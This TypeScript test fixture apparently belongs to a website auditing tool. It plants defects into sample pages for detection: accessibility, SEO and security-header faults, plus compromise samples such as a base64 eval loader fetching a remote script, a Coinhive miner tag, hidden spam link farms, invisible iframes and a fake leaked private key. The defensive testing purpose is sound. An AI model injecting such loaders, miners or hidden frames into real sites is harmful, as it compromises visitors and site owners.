import { ORIGIN, withHtml, withoutHeaders, type Defect } from './site-builder.js';

function without(name: string, pattern: RegExp): Defect {
  return { name, page: withHtml((html) => html.replace(pattern, '')) };
}

/** Puts something before the end of the main part. */
function beside(name: string, html: string): Defect {
  return { name, page: withHtml((page) => page.replace('</main>', `${html}\n</main>`)) };
}

function replaced(name: string, pattern: RegExp | string, by: string): Defect {
  return { name, page: withHtml((html) => html.replace(pattern, by)) };
}

const GONE = `${ORIGIN}/guides/gone`;
const brokenLink: Defect = {
  ...beside('broken link', '<p><a href="/guides/gone">An older guide about varnish</a></p>'),
  site: (site) => void site.broken.push(GONE),
};

/** Assembled, so that no scanner of secrets takes this file for a leak. */
const LEAKED = `-----BEGIN RSA ${'PRIVATE'} KEY-----\n${'MIIEowIBAAKCAQEAu3Yv9xQ2'.repeat(8)}\n-----END RSA ${'PRIVATE'} KEY-----`;

const SPAM =
  '<div style="position:absolute;left:-9999px"><a href="https://cheap-pills.example/viagra">buy viagra online</a> <a href="https://cheap-pills.example/cialis">cheap cialis pharmacy</a></div>';

const FARM = 'loans watches essays tyres shoes flats'
  .split(' ')
  .map((word) => `<a href="https://${word}.example/">${word}</a>`)
  .join(' ');

/** What is planted, by a short name. Each is one thing that a person would say in a sentence. */
const PLANTED = {
  title: without('no title', /<title>.*?<\/title>/),
  description: without('no description', /<meta name="description"[^>]*>/),
  h1: replaced('no h1', /<h1>(.*?)<\/h1>/, '<p>$1</p>'),
  alt: replaced('image without alternative text', / alt="[^"]*"/, ''),
  viewport: without('no viewport', /<meta name="viewport"[^>]*>/),
  lang: replaced('no language', '<html lang="en">', '<html>'),
  zoom: replaced('zoom switched off', 'initial-scale=1', 'initial-scale=1, user-scalable=no'),
  headerIcons: replaced(
    'three icons of the header without names, and its search field',
    '</nav></header>',
    `</nav>${'mast,sail,rope'
      .split(',')
      .map((name) => `<a class="icon ${name}" href="/about"><svg width="16" height="16"></svg></a>`)
      .join('')}<button type="button"><svg width="16" height="16"></svg></button><input name="q"></header>`,
  ),
  platformMenu: beside(
    'what WordPress writes without a name',
    '<div class="wp-block-navigation"><button type="button" class="wp-block-navigation__responsive-container-open"><svg width="24" height="24"></svg></button></div>',
  ),
  linkName: beside('link without a name', '<p><a href="/about"><svg width="16" height="16"></svg></a></p>'),
  buttonName: beside('button without a name', '<button type="button"><svg width="16" height="16"></svg></button>'),
  label: beside(
    'form field without a label',
    '<form action="/search"><input name="q"><button type="submit">Search</button></form>',
  ),
  headingOrder: replaced('heading level skipped', /<h2>What you need<\/h2>/, '<h4>What you need</h4>'),
  brokenLink,
  noindex: replaced(
    'noindex',
    '<meta charset="utf-8">',
    '<meta charset="utf-8"><meta name="robots" content="noindex">',
  ),
  otherCanonical: replaced(
    'canonical link to another host',
    `rel="canonical" href="${ORIGIN}`,
    'rel="canonical" href="https://elsewhere-boats.example',
  ),
  sameTitle: replaced('the same title', /<title>.*?<\/title>/, '<title>Tidewater guides for everybody</title>'),
  empty: replaced('page without content', /<body>[\s\S]*<\/body>/, '<body></body>'),
  securityHeaders: {
    name: 'no security headers',
    page: withoutHeaders(
      'strict-transport-security',
      'content-security-policy',
      'x-content-type-options',
      'referrer-policy',
      'permissions-policy',
    ),
  },
  hsts: { name: 'no Strict-Transport-Security', page: withoutHeaders('strict-transport-security') },
  compression: {
    name: 'no compression',
    // Large enough for the rule, which leaves small pages alone.
    page: (page) => ({ ...withoutHeaders('content-encoding')(page), wireBytes: 20_000, decodedBytes: 20_000 }),
  },
  mixedContent: replaced(
    'script by http on an https page',
    '</head>',
    '<script defer src="http://cdn-files.example/menu.js"></script>\n</head>',
  ),
  insecureForm: beside(
    'form that sends to http',
    `<form method="post" action="${ORIGIN.replace('https', 'http')}/join"><label>E-mail <input type="email" name="mail" autocomplete="email"></label><button type="submit">Join</button></form>`,
  ),
  blockingScript: replaced('script that holds up the page', '</head>', '<script src="/menu.js"></script>\n</head>'),
  dimensions: replaced('image without dimensions', ' width="640" height="400"', ''),
  openGraph: without('no Open Graph tags', /<meta property="og:[^>]*>\n?/g),
  jsonLd: replaced(
    'JSON-LD that cannot be read',
    '</head>',
    '<script type="application/ld+json">{"@type": "Article",}</script>\n</head>',
  ),
  secret: replaced('private key in a comment', '</main>', `<!-- ${LEAKED} -->\n</main>`),
  miner: replaced('coin miner', '</body>', '<script src="https://coinhive.com/lib/coinhive.min.js"></script>\n</body>'),
  spam: beside('hidden pharmacy links', SPAM),
  decodedLoader: replaced(
    'script that decodes what it loads',
    '</body>',
    `<script>eval(atob("${Buffer.from("var s=document.createElement('script');s.src='https://t.example.net/t.js';document.head.append(s)").toString('base64')}"))</script>\n</body>`,
  ),
  packedScript: replaced(
    'packed script',
    '</body>',
    "<script>eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0',1,1,'x'.split('|'),0,{}))</script>\n</body>",
  ),
  linkFarm: beside(
    'links to other sites far off the window',
    `<div style="position:absolute;left:-9999px">${FARM}</div>`,
  ),
  hiddenLinks: beside('links to other sites that are not shown', `<div style="display:none">${FARM}</div>`),
  plantedFrame: beside(
    'invisible frame of a bare address',
    '<iframe src="https://203.0.113.9/in" width="1" height="1" title="Counter" loading="lazy"></iframe>',
  ),
  counterFrame: beside(
    'invisible frame of a counter',
    '<iframe src="https://count.example.net/in" width="1" height="1" title="Counter" loading="lazy"></iframe>',
  ),
  defaced: replaced('"Hacked by …" as title', /<title>.*?<\/title>/, '<title>Hacked by ShadowCrew</title>'),
  robotsTxt: {
    name: 'robots.txt closes the site to search engines',
    isSiteWide: true,
    site: ({ probe }) => {
      const { robots } = probe.probes;
      if (robots) probe.probes.robots = { ...robots, text: 'User-agent: *\nDisallow: /\n' };
    },
  },
  http: {
    name: 'no https',
    isSiteWide: true,
    page: (page) => ({ ...page, url: plain(page.url), html: plain(page.html), tls: null }),
    site: (site) => {
      site.probe = {
        ...site.probe,
        requestedUrl: plain(site.probe.requestedUrl),
        startUrl: plain(site.probe.startUrl),
      };
      site.sitemapUrls = site.sitemapUrls.map(plain);
      site.pages = site.pages.map((page) => ({
        ...page,
        headers: page.headers.filter(([name]) => name !== 'strict-transport-security'),
      }));
    },
  },
} satisfies Record<string, Defect>;

export type DefectName = keyof typeof PLANTED;

export const DEFECTS: Readonly<Record<DefectName, Defect>> = PLANTED;

function plain(text: string): string {
  return text.replaceAll(ORIGIN, ORIGIN.replace('https:', 'http:'));
}
